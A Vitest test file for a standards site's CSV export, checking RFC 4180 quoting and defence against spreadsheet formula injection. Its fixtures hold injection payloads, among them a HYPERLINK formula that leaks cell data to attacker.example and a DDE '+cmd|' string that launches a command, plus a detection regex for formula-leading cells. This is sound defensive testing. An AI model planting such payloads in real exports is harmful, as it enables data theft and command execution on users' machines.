/**
 * standards.csv reads back, with a strict RFC 4180 parser, to exactly the text
 * of the content, except that a cell a spreadsheet would run as a formula
 * carries an apostrophe in front; and every field of the record has its column.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { CSV_COLUMNS, JSON_ONLY, standardsCsv } from '~/lib/exports/csv';
import { csvField } from '~/lib/exports/csv-field';
import { standardsJson } from '~/lib/exports/export';
import { STANDARD_FIELDS } from '~/lib/exports/record';
import { FIXTURE, loadContent, modelOf } from '../helpers/load-content';

const meta = { datasetVersion: '2026-11-24', buildDate: '2026-11-25', siteUrl: 'https://example.org/repo/' };
const NAMES = CSV_COLUMNS.map((c) => c.name);

/** Strict: a stray quote, a short row or a lone line break is an error, not a guess. */
function readCsv(text: string): string[][] {
  return parse(text, { bom: true, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false, skip_empty_lines: false });
}

describe('one CSV cell', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['人工智能，安全', '人工智能，安全'],
    ['', ''],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['=HYPERLINK("https://example.org","x")', '"\'=HYPERLINK(""https://example.org"",""x"")"'],
    ['a-b = c', 'a-b = c'],
    ["'quoted already", "'quoted already"],
  ])('%j → %j', (input, out) => expect(csvField(input)).toBe(out));
});

describe('standards.csv', () => {
  const raw = loadContent(FIXTURE);
  const [first, second] = raw.standards.map((s) => s.data as any);
  // Titles a reader could not type into a cell without the spreadsheet acting on them.
  first.title.en = '=HYPERLINK("https://attacker.example/?"&A1,"Click, please")';
  first.title.zh = '@SUM(1+1)\n第二行';
  second.title.en = '-2+3 "minus", and more';
  second.title.zh = "+cmd|' /C calc'!A0";
  const tax = modelOf(raw);
  const file = standardsJson(tax, meta);
  const csv = standardsCsv(file);
  const rows = readCsv(csv);
  const col = (name: string) => NAMES.indexOf(name);

  it('starts with a byte-order mark and ends every line with CRLF', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('parses strictly to a header and one row of every column per standard', () => {
    expect(rows[0]).toEqual(NAMES);
    expect(rows).toHaveLength(1 + tax.standards.length);
    for (const row of rows) expect(row).toHaveLength(NAMES.length);
  });

  it('gives each cell the record’s text, with an apostrophe before a formula', () => {
    const [, gbt, tc] = rows;
    expect(gbt![col('title_en')]).toBe('\'=HYPERLINK("https://attacker.example/?"&A1,"Click, please")');
    expect(gbt![col('title_zh')]).toBe("'@SUM(1+1)\n第二行");
    expect(tc![col('title_en')]).toBe('\'-2+3 "minus", and more');
    expect(tc![col('title_zh')]).toBe("'+cmd|' /C calc'!A0");
    // Everything else is the record's own text.
    expect(gbt![col('number')]).toBe('GB/T 45654-2025');
    expect(gbt![col('status_in_v1')]).toBe('in-development');
    expect(gbt![col('membership_in_v1_en')]).toBe('Inferred as listed');
    expect(gbt![col('dataset_version')]).toBe('2026-11-24');
    expect(gbt![col('build_date')]).toBe('2026-11-25');
    expect(gbt![col('url')]).toBe('https://example.org/repo/standards/gb-t-45654-2025/');
    expect(tc![col('successor')]).toBe('');
  });

  it('leaves no cell that a spreadsheet would run', () => {
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps the text unchanged in the JSON', () => {
    expect(file.standards[0]!.title.en).toBe('=HYPERLINK("https://attacker.example/?"&A1,"Click, please")');
  });
});

describe('the CSV’s columns', () => {
  const fields = STANDARD_FIELDS.map((f) => f.name);

  it('flatten only fields the record has', () => {
    for (const c of CSV_COLUMNS) expect([...fields, 'dataset'], c.name).toContain(c.from);
  });

  it('give every field of the record a column, except those kept to the JSON', () => {
    const flattened = new Set(CSV_COLUMNS.map((c) => c.from));
    expect(fields.filter((f) => !flattened.has(f as never))).toEqual([...JSON_ONLY]);
  });

  it('have unique names and a description in both languages', () => {
    expect(new Set(NAMES).size).toBe(NAMES.length);
    for (const c of CSV_COLUMNS) expect(c.description.zh && c.description.en, c.name).toBeTruthy();
  });

  it('put the readable names of a coded column right after it', () => {
    for (const code of ['kind', 'status_today', 'status_in_v1', 'membership_in_v1', 'confidence_identity']) {
      expect(NAMES.slice(col(code), col(code) + 3), code).toEqual([code, `${code}_zh`, `${code}_en`]);
    }
    function col(name: string) {
      return NAMES.indexOf(name);
    }
  });
});
